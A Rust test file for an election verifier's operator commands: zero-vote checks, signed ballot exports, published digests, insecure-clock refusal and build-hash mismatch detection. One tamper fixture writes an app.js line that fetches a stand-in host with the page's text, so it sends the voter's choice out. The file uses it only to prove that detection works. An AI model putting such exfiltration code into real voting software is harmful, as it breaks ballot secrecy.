//! The operator commands on the verifier host, through the real binary: zero-vote check before opening (and its
//! refusal after, and against a program or an app that is not the audited build), export after the close with a
//! signed manifest (and its refusal before), the published ballot-box digest, and the insecure test clock kept
//! away from a real election. (`audit verify`: operator_audit.rs.)
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use chrono::Utc;
use shared::crypto::ElectionPublicKey;
use shared::election::{Choice, Election};
use shared::export::{ExportFile, Manifest, PublishedBallotBox, content_digest, tracker_root};
use support::host::{create, create_as, crew, stderr, verifier};
use support::*;
use verifier::store::Db;

#[test]
fn zero_check_before_opening_and_refused_after() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("export.key");
    let out = Command::new(env!("CARGO_BIN_EXE_verifier"))
        .args(["export-key", "generate", "--out"])
        .arg(&key)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let next_year = (Utc::now() + chrono::Duration::days(365)).date_naive();
    let db =
        create(dir.path(), "future", &next_year.to_string(), &(next_year + chrono::Duration::days(17)).to_string());
    let report = dir.path().join("zero.json");
    let out = verifier(&["zero-check", "--export-key", key.to_str().unwrap(), "--out", report.to_str().unwrap()], &db);
    assert!(out.status.success(), "{}", stderr(&out));
    let signed: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    let body = signed["report"].as_str().unwrap();
    assert!(verifier::ops::verify_signature(
        signed["export_public_key"].as_str().unwrap(),
        body.as_bytes(),
        signed["signature"].as_str().unwrap()
    ));
    let r: verifier::ops::ZeroCheckReport = serde_json::from_str(body).unwrap();
    assert_eq!((r.vote_marks, r.ballot_box_writes), (0, 0));
    assert!(r.ballots_per_contest.iter().all(|(_, n)| *n == 0) && r.ballots_per_contest.len() == 2);
    assert_eq!(r.binary_sha256.len(), 64);

    let open = create(
        dir.path(),
        "open",
        &(Utc::now().date_naive() - chrono::Duration::days(2)).to_string(),
        &(Utc::now().date_naive() + chrono::Duration::days(10)).to_string(),
    );
    let out =
        verifier(&["zero-check", "--export-key", key.to_str().unwrap(), "--out", report.to_str().unwrap()], &open);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("voting has opened"), "{}", stderr(&out));
}

#[tokio::test]
async fn export_after_close_with_signed_manifest_and_published_digest() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("export.key");
    assert!(
        Command::new(env!("CARGO_BIN_EXE_verifier"))
            .args(["export-key", "generate", "--out"])
            .arg(&key)
            .status()
            .unwrap()
            .success()
    );
    let (db_path, cast) = seven_ballots_cast_while_open(dir.path());
    let out_file = dir.path().join("tokyo.ballots.json");
    export_carries_a_held_batch_sealed(&db_path, &key, &out_file);
    let expected = the_sealed_box_exports_every_ballot_signed(dir.path(), &key, &out_file, &cast);
    the_published_digest_lists_the_trackers_and_checkpoints(&cast, &expected).await;
    before_the_close_export_and_digest_are_refused(dir.path(), &key, &out_file).await;
}

/// The ballots of the export test, and the election and key they were encrypted for.
struct Cast {
    election: Election,
    election_key: ElectionPublicKey,
    cts: Vec<Vec<u8>>,
}

/// Exports the tokyo district's ballots, signed with the export key (a critical command: two people).
fn export(db_path: &Path, key: &Path, out_file: &Path) -> std::process::Output {
    verifier(
        &["export", "--district", "tokyo", "--export-key", key.to_str().unwrap(), "--out", out_file.to_str().unwrap()],
        db_path,
    )
}

/// Ballots as the verifier stores them (cast while the window was open), in an election now closed.
fn seven_ballots_cast_while_open(dir: &Path) -> (PathBuf, Cast) {
    let db_path = create(dir, "closed", "2025-07-02", "2025-07-19");
    let db = Db::open(&db_path).unwrap();
    let (election, election_key) = db.election().unwrap().unwrap();
    let f = fixture(0);
    let mut cts = Vec::new();
    for i in 0..7 {
        let plain = shared::ballot::encode(&election, &election.contests[0], &Choice::Candidate(1 + i % 3)).unwrap();
        let mut rng = rand_core::UnwrapErr(getrandom::SysRng);
        let ct =
            shared::crypto::encrypt_ballot(&mut rng, &election_key, election.id.as_str(), "tokyo", &plain).unwrap();
        db.cast(&format!("p{i}"), election.id.as_str(), "tokyo", &ct).unwrap();
        cts.push(ct);
    }
    drop(f);
    // A verifier that stopped before the close leaves its held batch unopened: the export carries it, sealed.
    drop(db);
    (db_path, Cast { election, election_key, cts })
}

/// Proves that the export of a box whose verifier stopped before the close carries its held batch, unopened.
fn export_carries_a_held_batch_sealed(db_path: &Path, key: &Path, out_file: &Path) {
    let out = export(db_path, key, out_file);
    assert!(out.status.success(), "{}", stderr(&out));
    let file: ExportFile = serde_json::from_slice(&std::fs::read(out_file).unwrap()).unwrap();
    let manifest: Manifest = serde_json::from_str(&file.manifest).unwrap();
    let unopened: Vec<u64> = manifest.contests[0].unopened.iter().map(|u| u.count).collect();
    assert_eq!((manifest.contests[0].count, unopened), (0, vec![7]));
    assert_eq!(file.ballots[0].unopened[0].entries.len(), 7);
    assert_eq!(manifest.ballot_box_digest, Manifest::compute_digest(&manifest.contests));
    std::fs::remove_file(out_file).unwrap();
}

/// Proves that the verifier that runs at the close seals the box (its held batches enter the box), and that the
/// export then holds every ballot in tracker order under a signed manifest. Returns the sorted trackers.
fn the_sealed_box_exports_every_ballot_signed(dir: &Path, key: &Path, out_file: &Path, cast: &Cast) -> Vec<String> {
    let Cast { election, election_key, cts } = cast;
    let db_path = create(dir, "sealed", "2025-07-02", "2025-07-19");
    let db = Db::open(&db_path).unwrap();
    for (i, ct) in cts.iter().enumerate() {
        db.cast(&format!("p{i}"), election.id.as_str(), "tokyo", ct).unwrap();
    }
    db.seal(election.id.as_str()).unwrap();
    drop(db);
    let out = export(&db_path, key, out_file);
    assert!(out.status.success(), "{}", stderr(&out));
    let file: ExportFile = serde_json::from_slice(&std::fs::read(out_file).unwrap()).unwrap();
    assert!(verifier::ops::verify_signature(&file.export_public_key, file.manifest.as_bytes(), &file.signature));
    let manifest: Manifest = serde_json::from_str(&file.manifest).unwrap();
    assert_eq!((manifest.contests.len(), manifest.contests[0].count), (1, 7));
    assert_eq!(manifest.key_fingerprint, election_key.fingerprint());
    let exported: Vec<Vec<u8>> = file.ballots[0].ciphertexts.iter().map(|c| c.0.clone()).collect();
    let mut trackers: Vec<String> = exported.iter().map(|c| shared::crypto::tracker(c)).collect();
    assert!(trackers.windows(2).all(|w| w[0] < w[1]), "ciphertexts are in tracker order");
    assert_eq!(manifest.contests[0].content_digest, content_digest(&exported));
    assert_eq!(manifest.contests[0].tracker_root, tracker_root(&mut trackers));
    assert_eq!(manifest.ballot_box_digest, Manifest::compute_digest(&manifest.contests));
    let mut expected: Vec<String> = cts.iter().map(|c| shared::crypto::tracker(c)).collect();
    expected.sort();
    assert_eq!(trackers, expected);
    expected
}

/// Proves that the published digest (after the seal, not before) lists the same trackers, and that the audit log's
/// signed checkpoints are published with the box, and at any time on their own route.
async fn the_published_digest_lists_the_trackers_and_checkpoints(cast: &Cast, expected: &[String]) {
    let Cast { election, cts, .. } = cast;
    let state = state_with(
        election.clone(),
        Db::open_in_memory().unwrap(),
        verifier::certs::TrustStore::from_dir(&fixture(0).dir.path().join("ca")).unwrap(),
        chrono::Duration::minutes(20),
    );
    for (i, ct) in cts.iter().enumerate() {
        state.db.cast(&format!("x{i}"), election.id.as_str(), "tokyo", ct).unwrap();
    }
    let published = || async {
        warp::test::request()
            .path("/api/v1/elections/current/ballot-box")
            .reply(&verifier::voting::filters::routes(state.clone(), None))
            .await
    };
    let r = published().await;
    assert_eq!(r.status(), 503, "not before the seal");
    assert_eq!(serde_json::from_slice::<shared::api::ApiError>(r.body()).unwrap().code, "BALLOT_BOX_NOT_SEALED");
    state.db.seal(election.id.as_str()).unwrap();
    let r = published().await;
    assert_eq!(r.status(), 200);
    let box_: PublishedBallotBox = serde_json::from_slice(r.body()).unwrap();
    let tokyo = box_.contests.iter().find(|c| c.contest_id == "tokyo").unwrap();
    assert!(expected.iter().all(|t| tokyo.trackers.contains(t)));
    // The audit log's signed checkpoints are published with the box, and at any time on their own route.
    let audit_key = verifier::store::checkpoints::AuditKey::ephemeral().unwrap();
    let signed = state.db.with(|c| verifier::store::checkpoints::sign_head(c, &audit_key, Utc::now(), "test", false));
    let signed = signed.unwrap().expect("the log has entries");
    let r = published().await;
    let published: PublishedBallotBox = serde_json::from_slice(r.body()).unwrap();
    assert_eq!(published.audit_checkpoints, vec![signed.clone()]);
    let r = warp::test::request()
        .path("/api/v1/audit/checkpoints")
        .reply(&verifier::voting::filters::routes(state.clone(), None))
        .await;
    let served: shared::export::PublishedCheckpoints = serde_json::from_slice(r.body()).unwrap();
    assert_eq!(served.checkpoints, vec![signed]);
}

/// Proves that before the close the export is refused, and so is the published ballot box.
async fn before_the_close_export_and_digest_are_refused(dir: &Path, key: &Path, out_file: &Path) {
    let open = create(
        dir,
        "open",
        &(Utc::now().date_naive() - chrono::Duration::days(2)).to_string(),
        &(Utc::now().date_naive() + chrono::Duration::days(10)).to_string(),
    );
    let out = export(&open, key, out_file);
    assert!(!out.status.success() && stderr(&out).contains("only after the close"), "{}", stderr(&out));
    let f = fixture(0);
    let r = warp::test::request()
        .path("/api/v1/elections/current/ballot-box")
        .reply(&verifier::voting::filters::routes(f.state.clone(), None))
        .await;
    assert_eq!(r.status(), 403);
}

/// Issue 21, part 1, as an insider with host access tries it: the insecure test clock moves a real election's time
/// (here ten days back, so that the zero-vote check runs on an open election, and the voter API would open
/// again after the close). It is refused for any real election, and audited when used on a practice one.
#[test]
fn the_insecure_test_clock_never_touches_a_real_election() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("export.key");
    let made =
        Command::new(env!("CARGO_BIN_EXE_verifier")).args(["export-key", "generate", "--out"]).arg(&key).status();
    assert!(made.unwrap().success());
    let today = Utc::now().date_naive();
    let (notice, day) =
        ((today - chrono::Duration::days(2)).to_string(), (today + chrono::Duration::days(10)).to_string());
    let real = create_as(dir.path(), "real", &notice, &day, false);
    let shifted = |args: &[&str], db: &Path| {
        let crew = crew(db);
        crew.command(&crew.admins[0])
            .args(args)
            .env("VERIFIER_INSECURE_TEST_CLOCK_OFFSET_SECONDS", "-864000")
            .output()
            .unwrap()
    };
    let report = dir.path().join("zero.json");
    let zero = ["zero-check", "--export-key", key.to_str().unwrap(), "--out", report.to_str().unwrap()];
    let out = shifted(&zero, &real);
    assert!(!out.status.success(), "a zero-vote check ran on an open real election: {}", stderr(&out));
    assert!(stderr(&out).contains("INSECURE_CLOCK_REFUSED"), "{}", stderr(&out));
    assert!(!report.exists());
    for args in [&["pause", "--reason", "x"][..], &["resume"][..], &["serve", "--listen", "127.0.0.1:0"][..]] {
        let out = shifted(args, &real);
        assert!(!out.status.success() && stderr(&out).contains("INSECURE_CLOCK_REFUSED"), "{args:?}: {}", stderr(&out));
    }
    let audit = Db::open(&real).unwrap().with(|c| verifier::store::audit::entries(c)).unwrap();
    assert!(audit.iter().all(|e| e.action != "voting_paused"), "nothing was done under the shifted clock");

    // A practice election (a rehearsal): allowed, and every use is in the audit log with its offset.
    let practice = create_as(dir.path(), "practice", &notice, &day, true);
    let out = shifted(&["pause", "--reason", "rehearsal"], &practice);
    assert!(out.status.success(), "{}", stderr(&out));
    let id = verifier::operators::crew::request_id(&String::from_utf8_lossy(&out.stdout)).unwrap();
    let crew = crew(&practice);
    let out = crew
        .command(&crew.admins[1])
        .args(["approve", &id])
        .env("VERIFIER_INSECURE_TEST_CLOCK_OFFSET_SECONDS", "-864000")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let audit = Db::open(&practice).unwrap().with(|c| verifier::store::audit::entries(c)).unwrap();
    let used = audit.iter().find(|e| e.action == "insecure_test_clock_used").expect("the use is audited");
    assert!(used.detail.contains("-864000") && used.detail.contains("pause"), "{}", used.detail);
}

/// A `verifier serve` child, killed when dropped; its voter origin and process id.
struct Serving(std::process::Child, String);

impl Drop for Serving {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn serve_app(db: &Path, web: &Path) -> Serving {
    use std::io::BufRead as _;
    let mut child = Command::new(env!("CARGO_BIN_EXE_verifier"))
        .args(["serve", "--listen", "127.0.0.1:0", "--db"])
        .arg(db)
        .arg("--web-dir")
        .arg(web)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let base = line.trim().strip_prefix("verifier: listening on ").expect("started").trim_end_matches('/').to_string();
    Serving(child, base)
}

/// Issue 21, part 4, as an insider tries it: the audited voter app is on disk, but the server was started on another
/// one (here an `index.html` that could send the choice elsewhere), or the binary is not the audited build. The
/// zero-vote check compares what runs and what is served with the published hashes and refuses.
#[test]
fn the_zero_vote_check_refuses_a_program_or_an_app_that_is_not_the_audited_build() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("export.key");
    let made =
        Command::new(env!("CARGO_BIN_EXE_verifier")).args(["export-key", "generate", "--out"]).arg(&key).status();
    assert!(made.unwrap().success());
    let next_year = (Utc::now() + chrono::Duration::days(365)).date_naive();
    let (notice, day) = (next_year.to_string(), (next_year + chrono::Duration::days(17)).to_string());
    let db = create(dir.path(), "practice", &notice, &day);
    let audited = dir.path().join("audited-dist");
    std::fs::create_dir(&audited).unwrap();
    std::fs::write(audited.join("index.html"), "<!doctype html><title>投票</title><script src=\"/app.js\"></script>")
        .unwrap();
    std::fs::write(audited.join("app.js"), "console.log('audited');").unwrap();
    std::fs::write(audited.join("app_bg.wasm"), b"\0asm\x01\0\0\0").unwrap();
    let hashes = dir.path().join("build-hashes.json");
    let out = Command::new(env!("CARGO_BIN_EXE_verifier"))
        .args(["build-hashes", "--web-dir", audited.to_str().unwrap(), "--out", hashes.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));

    let zero_check = |server: &Serving, expected: &Path, report: &Path| {
        let pid = server.0.id().to_string();
        let args = ["zero-check", "--export-key", key.to_str().unwrap(), "--out", report.to_str().unwrap()];
        let build = ["--expected-hashes", expected.to_str().unwrap(), "--server", &server.1, "--server-pid", &pid];
        verifier(&[&args[..], &build[..]].concat(), &db)
    };

    // The audited build, served: the check passes and its signed report names every hash it compared.
    let server = serve_app(&db, &audited);
    let report = dir.path().join("zero.json");
    let out = zero_check(&server, &hashes, &report);
    assert!(out.status.success(), "{}", stderr(&out));
    let signed: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    let r: verifier::ops::ZeroCheckReport = serde_json::from_str(signed["report"].as_str().unwrap()).unwrap();
    let build = r.build.expect("the report holds the comparison");
    assert_eq!(build.served.len(), 3);
    assert_eq!(build.server_pid, server.0.id());
    drop(server);

    // The server started on another app, the audited one left on disk: refused, naming the served file.
    let other = dir.path().join("other-dist");
    std::fs::create_dir(&other).unwrap();
    for f in ["app.js", "app_bg.wasm"] {
        std::fs::copy(audited.join(f), other.join(f)).unwrap();
    }
    std::fs::write(
        other.join("index.html"),
        "<!doctype html><title>投票</title><script src=\"/app.js\"></script><img src=\"https://elsewhere.example/\">",
    )
    .unwrap();
    let server = serve_app(&db, &other);
    let report = dir.path().join("zero-other.json");
    let out = zero_check(&server, &hashes, &report);
    assert!(
        !out.status.success(),
        "a zero-vote check passed another voter app: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(stderr(&out).contains("BUILD_MISMATCH: the served index.html"), "{}", stderr(&out));
    assert!(!report.exists(), "nothing was signed");

    drop(server);

    // Started on a changed script, the audited one then put back on disk: browsers still get the changed one,
    // compressed into memory at start, and so does the check.
    std::fs::write(other.join("index.html"), std::fs::read(audited.join("index.html")).unwrap()).unwrap();
    std::fs::write(other.join("app.js"), "fetch('https://elsewhere.example/' + document.body.innerText);").unwrap();
    let server = serve_app(&db, &other);
    std::fs::write(other.join("app.js"), std::fs::read(audited.join("app.js")).unwrap()).unwrap();
    let out = zero_check(&server, &hashes, &report);
    assert!(stderr(&out).contains("BUILD_MISMATCH: the served app.js"), "{}", stderr(&out));

    // Published hashes of another verifier binary: refused, naming the binary.
    let mut wrong: verifier::ops::build_check::BuildHashes =
        serde_json::from_str(&std::fs::read_to_string(&hashes).unwrap()).unwrap();
    wrong.verifier = "00".repeat(32);
    let wrong_path = dir.path().join("wrong-hashes.json");
    std::fs::write(&wrong_path, serde_json::to_vec(&wrong).unwrap()).unwrap();
    let out = zero_check(&server, &wrong_path, &report);
    assert!(stderr(&out).contains("BUILD_MISMATCH: this verifier binary"), "{}", stderr(&out));
    drop(server);

    // A real election's zero-vote check cannot skip the comparison.
    let real = create_as(dir.path(), "real", &notice, &day, false);
    let plain = ["zero-check", "--export-key", key.to_str().unwrap(), "--out", report.to_str().unwrap()];
    let out = verifier(&plain, &real);
    assert!(!out.status.success() && stderr(&out).contains("ZERO_CHECK_UNPROVEN"), "{}", stderr(&out));
}
